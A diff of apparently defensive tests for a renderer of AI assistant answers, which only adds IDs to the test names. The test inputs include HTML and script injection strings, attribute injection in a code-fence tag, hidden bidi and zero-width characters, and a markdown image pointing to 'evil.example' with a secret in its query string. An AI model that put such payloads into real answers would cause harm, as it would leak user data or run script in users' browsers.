@@ -75,7 +75,7 @@ describe('the elements of an answer', () => {
 		expect(show('```"onload="x\ncode\n```').querySelector('code')?.hasAttribute('data-lang')).toBe(false);
 	});
 
-	it('shows HTML as text', () => {
+	it('MD-1: shows HTML as text', () => {
 		const root = show('<b onclick="x()">hi</b>\n\n<script>alert(1)</script>');
 		expect(root.querySelector('b, script')).toBeNull();
 		expect(root.textContent).toContain('<b onclick="x()">hi</b>');
@@ -86,7 +86,7 @@ describe('the elements of an answer', () => {
 		expect(show('a &lt; b &amp; c &#8594; &unknown;').textContent).toBe('a < b & c → &unknown;');
 	});
 
-	it('shows hidden characters of code by their names', () => {
+	it('MD-6: shows hidden characters of code by their names', () => {
 		const root = show('`a\u202eb`\n\n```\nx\u200by\n```');
 		expect([...root.querySelectorAll('.md-escape')].map((node) => node.textContent)).toEqual(['U+202E', 'U+200B']);
 	});
@@ -95,7 +95,7 @@ describe('the elements of an answer', () => {
 		expect(show('Yes.\n\n```suggestions\n(How?)[/how]\n```').textContent).toBe('Yes.');
 	});
 
-	it('says when it had to shorten an answer', () => {
+	it('MD-5: says when it had to shorten an answer', () => {
 		const root = show('word '.repeat(20_000));
 		expect(root.querySelector('.md-note')?.textContent).toBe(panelStrings.shortened);
 		expect(root.textContent?.length).toBeLessThan(66_000);
@@ -156,7 +156,7 @@ describe('the links of an answer', () => {
 		}
 	});
 
-	it('shows an image as a link with its description and never loads it', () => {
+	it('MD-3: shows an image as a link with its description and never loads it', () => {
 		const root = show('![a map](https://evil.example/?q=secret) ![](/logo.png)');
 		expect(root.querySelector('img')).toBeNull();
 		expect([...root.querySelectorAll('.md-image')].map((link) => link.textContent)).toEqual([
